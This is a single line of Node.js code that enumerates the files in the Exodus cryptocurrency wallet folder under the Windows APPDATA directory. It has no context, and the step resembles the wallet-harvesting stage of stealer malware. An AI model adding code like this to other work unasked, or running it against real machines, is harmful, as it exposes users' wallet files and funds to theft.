require('fs').readdirSync(process.env.APPDATA + '/Exodus/exodus.wallet');
